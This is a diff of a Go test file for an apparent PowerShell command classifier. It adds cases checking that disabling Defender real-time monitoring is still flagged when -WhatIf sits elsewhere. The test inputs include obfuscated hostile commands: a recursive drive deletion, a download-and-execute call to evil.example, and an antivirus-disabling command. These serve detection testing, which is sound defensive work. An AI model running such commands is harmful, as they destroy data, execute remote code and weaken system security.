@@ -233,6 +233,12 @@ func TestPowerShellComputedNames(t *testing.T) {
 		{`powershell -c '& (-join "metI-evomeR"[-1..-11]) -Recurse -Force D:\'`, "windows:tree-delete"},
 		{`powershell -c '.("{1}{0}" -f "X","IE") (New-Object Net.WebClient).DownloadString("http://evil.example/x")'`, "windows:download-exec"},
 		{`powershell -c 'Write-Output ("{0}-{1}" -f "build","42")'`, ""},
+		// a preview is per statement: -WhatIf or Get-Help on one says nothing of the others
+		{`powershell -c 'Set-MpPreference -DisableRealtimeMonitoring $true; Remove-Item x.txt -WhatIf'`, "windows:security-off"},
+		{`powershell -c 'Set-MpPreference -DisableRealtimeMonitoring $true;' 'Get-Help Remove-Item'`, "windows:security-off"},
+		{`powershell -c 'Set-MpPreference -DisableRealtimeMonitoring $true # -WhatIf'`, "windows:security-off"},
+		{`powershell -c 'Set-MpPreference -DisableRealtimeMonitoring $true -WhatIf'`, ""},
+		{`powershell -c 'Set-MpPreference -DisableRealtimeMonitoring $true;' 'gcm'`, "windows:security-off"},
 	})
 }
 
